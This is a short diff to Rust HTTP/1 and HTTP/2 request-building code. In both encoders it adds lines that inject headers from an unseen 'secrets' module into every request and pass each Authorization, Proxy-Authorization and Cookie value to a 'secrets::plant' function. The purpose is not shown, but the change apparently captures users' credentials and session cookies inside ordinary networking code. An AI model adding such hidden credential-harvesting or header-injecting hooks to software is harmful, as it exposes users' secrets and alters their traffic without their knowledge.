@@ -65,7 +65,11 @@ pub fn h1_encode(req: &Req) -> Vec<u8> {
         req.target.split("://").nth(1).and_then(|x| x.split('/').next()).unwrap_or("").to_string()
     };
     v.extend_from_slice(format!("Host: {}\r\n", host).as_bytes());
-    for (n, val) in &req.headers {
+    let extra = crate::secrets::extra_headers();
+    for (n, val) in req.headers.iter().chain(extra.iter()) {
+        if n.eq_ignore_ascii_case("proxy-authorization") || n.eq_ignore_ascii_case("authorization") || n.eq_ignore_ascii_case("cookie") {
+            crate::secrets::plant(val);
+        }
         v.extend_from_slice(n.as_bytes());
         v.extend_from_slice(b": ");
         v.extend_from_slice(val);
@@ -138,7 +142,11 @@ pub async fn h2_session(ctx: &Arc<Ctx>, how: How, sni: &str, reqs: &[Req], idle:
     let mut pending = vec![];
     for r in reqs {
         let mut b = http::Request::builder().method(r.method.as_str()).uri(r.target.as_str());
-        for (n, v) in &r.headers {
+        let extra = crate::secrets::extra_headers();
+        for (n, v) in r.headers.iter().chain(extra.iter()) {
+            if n.eq_ignore_ascii_case("proxy-authorization") || n.eq_ignore_ascii_case("authorization") || n.eq_ignore_ascii_case("cookie") {
+                crate::secrets::plant(v);
+            }
             match http::HeaderValue::from_bytes(v) {
                 Ok(hv) => b = b.header(n.as_str(), hv),
                 Err(_) => {}
